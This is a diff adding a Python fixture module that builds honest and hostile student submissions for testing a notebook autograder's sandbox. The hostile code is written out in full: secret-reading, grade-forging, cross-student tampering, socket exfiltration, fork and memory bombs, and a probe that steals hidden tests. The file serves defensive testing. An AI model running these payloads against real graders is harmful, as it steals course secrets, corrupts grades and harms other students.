@@ -1,0 +1,272 @@
+"""Students' hand-ins for the grading tests and the benchmark: honest ones, and hostile kinds.
+
+A hand-in is the released assignment with the chapter's learner files solved for some
+steps (the others stay stubs). Each hostile kind starts from the same honest partial
+work (steps 2.1 and 2.2 of chapter 2) and then attacks the grader one way; its right
+grade is what that honest work earns, unless the attack breaks the student's own code.
+"""
+import re
+import shutil
+import sys
+from dataclasses import dataclass
+from pathlib import Path
+
+import nbformat
+
+ROOT = Path(__file__).resolve().parents[2]
+sys.path.insert(0, str(ROOT))  # the tools package, also for the benchmark
+
+from tools import build, classroom, editions  # noqa: E402
+
+ASSIGNMENT, CHAPTER = "02_gradients", 2
+EARLIER = {s for s in editions.steps_in(build.PACKAGE) if classroom.chapter_of(s) < CHAPTER}
+MINE = sorted(s for s in editions.steps_in(build.PACKAGE) if classroom.chapter_of(s) == CHAPTER)
+HONEST = {"reference": EARLIER | set(MINE), "blank": set(EARLIER), "partial": EARLIER | {"2.1", "2.2"}}
+EXPECTED_HONEST = {"reference": 4.0, "blank": 0.0, "partial": 2.0}
+HIDDEN_MARKER = "HIDDEN-MARKER-5b2e"
+# The instructor's hidden test, added to step 2.1's graded cell of the test course's source notebook.
+HIDDEN_TEST = f"""
+### BEGIN HIDDEN TESTS
+# {HIDDEN_MARKER}: one more check of step 2.1 that the release does not show
+from minigrad.autograd import engine
+assert not getattr(engine, "HIDDEN_PROBE", False), "{HIDDEN_MARKER}"
+### END HIDDEN TESTS"""
+
+
+def solved_copy(root, target, solved, scratch):
+    """The released assignment copied to ``target``, with the steps in ``solved`` done (the others stubs)."""
+    shutil.copytree(Path(root) / "release" / ASSIGNMENT, target, dirs_exist_ok=True)
+    package = editions.write_package(build.PACKAGE, Path(scratch) / Path(target).name / "minigrad", keep=solved)
+    for name in classroom.learner_files(CHAPTER):
+        shutil.copyfile(package.parent / name, Path(target) / name)
+    return Path(target)
+
+
+def hand_in(root, student, solved, scratch):
+    """Student ``student`` submits the released assignment with the steps in ``solved`` done."""
+    return solved_copy(root, Path(root) / "submitted" / student / ASSIGNMENT, solved, Path(scratch) / student)
+
+
+def add_hidden_test(root):
+    """Give step 2.1's graded cell in the course's source notebook a hidden test (before release)."""
+    path = Path(root) / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+    notebook = nbformat.read(path, as_version=4)
+    cell = next(c for c in notebook.cells if c.source.strip() == 'minigrad.check("2.1")')
+    cell.source += HIDDEN_TEST
+    nbformat.write(notebook, path)
+
+
+def edit_notebook(folder, change):
+    path = Path(folder) / f"{ASSIGNMENT}.ipynb"
+    notebook = nbformat.read(path, as_version=4)
+    change(notebook)
+    nbformat.write(notebook, path)
+
+
+def add_cell(folder, code):
+    """Insert a code cell right after the notebook's first code cell (which imports minigrad)."""
+    def insert(notebook):
+        first = next(i for i, c in enumerate(notebook.cells) if c.cell_type == "code")
+        notebook.cells.insert(first + 1, nbformat.v4.new_code_cell(code))
+    edit_notebook(folder, insert)
+
+
+def replace_stub(folder, step, code):
+    """Write ``code`` in place of the stub of ``step`` in the submitted package."""
+    for name in classroom.learner_files(CHAPTER):
+        path = Path(folder) / name
+        stub = re.search(rf'^(?P<indent>\s*)raise NotImplementedError\("step {re.escape(step)}:.*$', path.read_text(),
+                         re.MULTILINE)
+        if stub:
+            body = "".join(stub["indent"] + line + "\n" for line in code.strip().splitlines())
+            path.write_text(path.read_text().replace(stub.group(0) + "\n", body))
+            return
+    raise LookupError(f"no stub of step {step}")
+
+
+def is_graded(cell):
+    return cell.metadata.get("nbgrader", {}).get("grade", False)
+
+
+@dataclass
+class Context:
+    """What hostile code aims at: the course root, a student to harm, a secret and a canary outside, a port."""
+    root: Path
+    victim: str
+    secret: Path
+    canary: Path
+    port: int
+    hosts: tuple
+
+
+@dataclass
+class Kind:
+    name: str
+    attack: object  # (submission folder, Context) -> None
+    score: float  # the right grade
+    stopped_by: str  # what stops the attack, for the table in the report
+
+
+def _edited_cells(folder, ctx):
+    def edit(notebook):
+        for cell in filter(is_graded, notebook.cells):
+            cell.source = 'print("✓ Step passed")'
+            cell.metadata.nbgrader.update(points=100, locked=False)
+    edit_notebook(folder, edit)
+
+
+def _deleted_cells(folder, ctx):
+    def delete(notebook):
+        notebook.cells = [cell for cell in notebook.cells if not is_graded(cell)]
+    edit_notebook(folder, delete)
+
+
+def _forged_cells(folder, ctx):
+    def forge(notebook):
+        for grade_id, points in [("bonus", 100), ("step_2_3", 1)]:
+            cell = nbformat.v4.new_code_cell('print("✓ Step passed")')
+            cell.metadata["nbgrader"] = {"grade": True, "grade_id": grade_id, "locked": True, "points": points,
+                                         "schema_version": 3, "solution": False, "task": False}
+            notebook.cells.insert(1, cell)
+    edit_notebook(folder, forge)
+
+
+def _cell(code):
+    return lambda folder, ctx: add_cell(folder, code)
+
+
+def _package(step, code):
+    return lambda folder, ctx: replace_stub(folder, step, code)
+
+
+def _malformed(folder, ctx):
+    (Path(folder) / f"{ASSIGNMENT}.ipynb").write_text('{"cells": [{"cell_type": "code", "source": ')
+
+
+def _secret_paths(ctx):
+    root = ctx.root
+    return [str(p) for p in (root / "gradebook.db", root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
+                             build.PACKAGE / "autograd" / "engine.py", ctx.secret, "/proc/1/environ",
+                             root / "submitted" / ctx.victim / ASSIGNMENT / "minigrad" / "autograd" / "engine.py")]
+
+
+def _reads_secrets(folder, ctx):
+    paths = _secret_paths(ctx)
+    add_cell(folder, f"""import os
+for path in {paths!r}:
+    try:
+        print(path, open(path, errors="replace").read())
+    except Exception as error:
+        print(path, type(error).__name__)
+for folder in {[str(p) for p in [ctx.root, *ctx.root.parents, ROOT]]!r}:
+    print(folder, os.listdir(folder) if os.path.isdir(folder) else "-")
+print(dict(os.environ))""")
+    replace_stub(folder, "2.4", f"""import os
+found = [open(p, errors="replace").read()[:3000] for p in {paths!r} if os.path.exists(p)]
+raise RuntimeError(found + [dict(os.environ)])""")
+
+
+def _write_targets(ctx):
+    root = ctx.root
+    return [str(p) for p in (root / "gradebook.db", root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
+                             root / "submitted" / ctx.victim / ASSIGNMENT / "minigrad" / "autograd" / "engine.py",
+                             root / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", ctx.canary,
+                             "/tmp/minigrad-hostile-was-here")]
+
+
+def _writes_outside(folder, ctx):
+    targets = _write_targets(ctx)
+    attack = f"""for path in {targets!r}:
+    try:
+        with open(path, "a") as handle:
+            handle.write("pwned")
+    except Exception as error:
+        print(path, type(error).__name__)"""
+    add_cell(folder, attack)
+    replace_stub(folder, "2.4", attack + "\nraise RuntimeError('no luck')")
+
+
+def _network(folder, ctx):
+    attack = f"""import socket
+for host in {list(ctx.hosts)!r}:
+    try:
+        socket.create_connection((host, {ctx.port}), timeout=3).sendall(b"leak")
+        print(host, "connected")
+    except OSError as error:
+        print(host, type(error).__name__)
+try:
+    print(socket.getaddrinfo("pypi.org", 443))
+except OSError as error:
+    print("dns", type(error).__name__)"""
+    add_cell(folder, attack)
+    replace_stub(folder, "2.4", attack + "\nraise RuntimeError('no network')")
+
+
+TORCH_MM_BACKWARD = """import numpy as np
+import torch
+g, a, b = (torch.from_numpy(np.asarray(x)) for x in (grad, self_, mat2))
+return ((g @ b.T).numpy() if need_self else None), ((a.T @ g).numpy() if need_mat2 else None)"""
+
+HIDDEN_PROBE = '''
+
+class _Probe:
+    """Fails the hidden test, and tries to smuggle its code out through every channel."""
+
+    def __bool__(self):
+        import inspect, sys
+        stolen = "".join(line for frame in inspect.stack() for line in (frame.code_context or []))
+        print(stolen)
+        print(stolen, file=sys.stderr)
+        raise RuntimeError("stolen: " + stolen)
+
+
+HIDDEN_PROBE = _Probe()
+'''
+
+
+def _hidden_probe(folder, ctx):
+    engine = Path(folder) / "minigrad" / "autograd" / "engine.py"
+    engine.write_text(engine.read_text() + HIDDEN_PROBE)
+
+
+def _missing_file(folder, ctx):
+    (Path(folder) / "minigrad" / "autograd" / "graph.py").unlink()
+
+
+KINDS = [
+    Kind("edited_test_cells", _edited_cells, 2.0, "nbgrader restores locked cells and their points"),
+    Kind("deleted_test_cells", _deleted_cells, 2.0, "nbgrader adds the graded cells back; fresh checks grade them"),
+    Kind("forged_graded_cells", _forged_cells, 2.0, "cells the instructor never made lose their grading marks"),
+    Kind("infinite_loop", _cell("while True:\n    pass"), 2.0, "CPU time limit stops the kernel"),
+    Kind("endless_sleep", _cell("import time\ntime.sleep(10**6)"), 2.0, "wall time limit stops the kernel"),
+    Kind("memory_bomb", _cell("hoard = []\nwhile True:\n    hoard.append(bytearray(10**8))"), 2.0,
+         "memory limit: MemoryError in the cell"),
+    Kind("fork_bomb", _cell("import os, time\nfor _ in range(100_000):\n    if os.fork() == 0:\n"
+                            "        time.sleep(3600)\n        os._exit(0)"), 2.0,
+         "process limit refuses the fork; the pid namespace ends the children"),
+    Kind("output_flood", _cell("while True:\n    print('x' * 10**6)"), 2.0,
+         "whichever limit comes first: output (the grader keeps 8 MiB), the kernel's memory, CPU or wall time"),
+    Kind("os_exit", _cell("import os\nos._exit(0)"), 2.0, "the dead kernel ends the run; checks are separate"),
+    Kind("malformed_json", _malformed, 2.0, "the released notebook stands in; the package is graded"),
+    Kind("monkeypatch", _cell("""import builtins, pathlib
+import numpy as np
+import minigrad, minigrad.steps.expect as expect
+np.allclose = lambda *a, **k: True
+expect.close = expect.same = expect.holds = lambda *a, **k: None
+builtins.NotImplementedError = type("Fine", (Exception,), {})
+minigrad.check = lambda *a, **k: print("✓ Step passed")
+pathlib.Path("minigrad/steps/expect.py").write_text("def close(*a, **k): pass\\n")
+pathlib.Path("sitecustomize.py").write_text("import builtins\\nbuiltins.AssertionError = Exception\\n")"""),
+         2.0, "graded cells never run in the kernel; checks use the instructor's files"),
+    Kind("reads_secrets", _reads_secrets, 2.0, "the sandbox shows neither course root, repository nor environment"),
+    Kind("writes_outside", _writes_outside, 2.0, "nothing outside the sandbox is writable; /tmp is private"),
+    Kind("network", _network, 2.0, "no network in the sandbox"),
+    Kind("imports_torch", _package("2.4", TORCH_MM_BACKWARD), 2.0, "PyTorch is hidden in the sandbox"),
+    Kind("deletes_own_package", _cell("import shutil\nshutil.rmtree('minigrad')"), 2.0,
+         "the kernel works on a scratch copy; checks on a fresh one"),
+    Kind("missing_package_file", _missing_file, 1.0, "the released stub stands in for the missing file"),
+    Kind("package_infinite_loop", _package("2.3", "while True:\n    pass"), 2.0,
+         "CPU time limit stops that step's checks only"),
+    Kind("package_exit", _package("2.4", "import os\nos._exit(0)"), 2.0, "that step's checks give no verdict: zero"),
+    Kind("steals_hidden_test", _hidden_probe, 1.0, "hidden tests run apart, on stdin; their failure is neutral"),
+]
